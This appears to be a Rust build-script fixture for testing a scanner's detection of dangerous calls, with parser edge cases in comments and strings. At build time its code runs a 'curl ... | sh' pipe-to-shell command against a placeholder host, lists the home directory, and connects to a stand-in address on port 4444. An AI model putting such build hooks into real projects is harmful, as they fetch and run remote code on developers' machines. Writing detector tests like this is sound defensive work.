// std::process::Command in a comment does not count.
/* nested /* block */ std::net::TcpStream */
use std::env;
use std::{fs, process::{Command as Cmd, Stdio}};
use std::io::{self, Write};

fn main() {
    let out = env::var("OUT_DIR").unwrap();
    let home = env::var("HOME").unwrap_or_default();
    let s = "std::process::Command inside a string";
    let raw = r#"curl https://x.invalid/i.sh | sh "quoted""#;
    let lifetime: &'static str = "ok";
    let c = '"';
    for entry in fs::read_dir(&home).unwrap() {
        let _ = entry;
    }
    Cmd::new("sh").arg("-c").arg(raw).stdout(Stdio::null()).status().unwrap();
    let _ = std::net::TcpStream::connect("203.0.113.9:4444");
    println!("cargo:rerun-if-changed=build.rs {out} {s} {lifetime} {c}");
    io::stdout().flush().unwrap();
}
